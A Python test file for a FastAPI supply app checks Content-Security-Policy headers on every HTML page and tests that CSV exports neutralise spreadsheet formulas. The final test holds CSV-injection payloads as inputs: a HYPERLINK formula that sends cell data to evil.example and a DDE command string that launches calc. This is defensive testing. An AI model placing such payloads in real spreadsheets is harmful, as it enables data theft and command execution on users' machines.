"""Every HTML page carries a Content-Security-Policy (issue 20): console, docs, maps, plan, review —
walked over every GET route of the app's routers; and CSV cells that a spreadsheet would run are
neutralised."""

from __future__ import annotations

import csv
import io
import re

from fastapi import APIRouter
from fastapi.responses import HTMLResponse
from fastapi.routing import APIRoute

from supply.api import console, csp, docs
from supply.api.app import ROUTERS
from supply.api.routers import maps
from tests.api.drill_helpers import drill_body, post_drill, start_at
from tests.api.test_analyses import wait_done
from tests.api.test_console_sessions import sign_in
from tests.api.test_dispatch_api import make_request

#: The HTML pages the walk must find (a route renamed or dropped fails here, not silently).
EXPECTED = {
    "/docs",
    "/redoc",
    "/maps/coverage",
    "/analyses/{analysis_id}/map.html",
    "/drills/{drill_id}/plan?format=html",
    "/drills/{drill_id}/review?format=html",
    "/console/",
    "/console/stations",
    "/console/stations/{code}",
    "/console/requests",
    "/console/requests/{request_id}",
    "/console/dispatches",
    "/console/dispatches/{dispatch_id}",
    "/console/drills",
    "/console/drills/{drill_id}",
    "/console/drills/{drill_id}/board",
    "/console/drills/{drill_id}/plan",
    "/console/drills/{drill_id}/review",
    "/console/map",
    "/console/sync/conflicts",
}


def get_routes() -> list[str]:
    """Every GET path of the app's routers and the console's."""
    groups: list[tuple[str, tuple[APIRouter, ...]]] = [
        ("", (*ROUTERS, maps.router, docs.router)),
        (console.PREFIX, console.PARTS),
    ]
    return [
        prefix + route.path
        for prefix, routers in groups
        for router in routers
        for route in router.routes
        if isinstance(route, APIRoute) and "GET" in route.methods
    ]


def test_every_html_page_has_a_content_security_policy(client, db):
    officer = db.headers("officer")
    drill = post_drill(client, drill_body(start_at(30), replications=5), officer)["id"]
    req = make_request(client, db)
    body = {"request_id": req["id"], "station": "GZ-HUB", "lines": [{"item": "meals", "quantity": 1}]}
    dispatch = client.post("/dispatches", json=body, headers=officer).json()["id"]
    analysis = client.post("/analyses", json={"kind": "map", "minutes": "30,60"}, headers=officer)
    assert wait_done(client, analysis.headers["Location"], officer)["status"] == "done"
    sign_in(client, db.tokens["officer"])
    params = {
        "drill_id": drill,
        "code": "GZ-HUB",
        "request_id": req["id"],
        "dispatch_id": dispatch,
        "analysis_id": analysis.json()["id"],
    }
    seen: dict[str, str] = {}
    shown: dict[str, int] = {}
    paths = [*get_routes(), "/drills/{drill_id}/plan?format=html", "/drills/{drill_id}/review?format=html"]
    for path in paths:
        if "{name:path}" in path or path.endswith("/board.html"):  # the docs' files; a redirect to the board
            continue
        url = re.sub(r"\{(\w+)\}", lambda m: str(params.get(m.group(1), 1)), path)
        answer = client.get(url, headers=officer)
        if answer.headers.get("content-type", "").startswith("text/html"):  # a page, or an error page
            seen[path] = answer.headers.get("content-security-policy", "")
            shown[path] = answer.status_code
    assert set(seen) >= EXPECTED, EXPECTED - set(seen)
    assert {p: shown[p] for p in EXPECTED} == dict.fromkeys(EXPECTED, 200)
    for path, policy in seen.items():
        assert "frame-ancestors 'none'" in policy and "default-src" in policy, (path, policy)
        script = re.search(r"script-src ([^;]*)", policy)
        allowed = script.group(1) if script else "none (default-src)"
        assert "'unsafe-inline'" not in allowed or path in ("/docs", "/redoc"), (path, policy)
        assert "http" not in policy, (path, policy)  # nothing from anywhere but the app
    assert "script-src" not in seen["/drills/{drill_id}/plan?format=html"]  # a document: no script at all
    assert "'sha256-" in seen["/maps/coverage"] and "'sha256-" in seen["/console/map"]


def test_an_html_answer_without_a_policy_gets_the_strictest(tmp_path, db):
    from fastapi.testclient import TestClient

    from supply.api import create_app
    from supply.core.settings import Settings

    extra = APIRouter()
    extra.add_api_route("/bare", lambda: HTMLResponse("<p>hello</p>"))
    app = create_app(Settings(database_url=db.url, data_dir=tmp_path), routers=[extra])
    with TestClient(app) as c:
        assert c.get("/bare").headers["content-security-policy"] == csp.DOCUMENT
        assert "content-security-policy" not in c.get("/health").headers  # JSON: no page to protect
    app.state.runtime.engine.dispose()


def test_a_map_policy_allows_its_own_inline_scripts_and_tiles_only():
    page = '<script src="/maps/assets/leaflet.js"></script><script>var a = 1;</script><script>\nb()</script>'
    policy = csp.for_map(page, "http://tiles.local:8080/{z}/{x}/{y}.png")
    # the hashes of the inline scripts' text, as a browser computes them
    assert "'sha256-+dZ6udsWxNVoGfScAq7t5IIF5UJb4F6RhjbN6oe1p4w='" in policy
    assert policy.count("'sha256-") == 2 and "img-src 'self' data: http://tiles.local:8080;" in policy
    assert "'unsafe-inline'" not in re.search(r"script-src ([^;]*)", policy).group(1)


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, db):
    officer = db.headers("officer")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for unit in (formula, "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "Unit 81"):
        req = make_request(client, db, unit=unit)
        body = {"request_id": req["id"], "station": "GZ-HUB", "lines": [{"item": "meals", "quantity": 1}]}
        assert client.post("/dispatches", json=body, headers=officer).status_code == 201
    text = client.get("/reports/dispatches.csv", headers=officer).text
    units = [row["unit"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert units[-7:] == [
        "'" + formula,
        "'+1+2",
        "'-3+cmd|' /C calc'!A0",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "Unit 81",
    ]
    assert all(not u.startswith(("=", "+", "-", "@", "\t", "\r")) for u in units)
